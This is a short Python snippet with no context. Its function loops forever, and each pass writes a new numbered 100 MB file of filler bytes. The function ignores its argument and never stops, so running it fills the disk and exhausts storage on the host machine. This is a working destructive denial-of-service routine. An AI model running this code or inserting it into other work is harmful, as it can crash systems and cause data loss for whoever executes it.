def f(x):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            for _ in range(100): file.write(b"x" * 1_000_000)
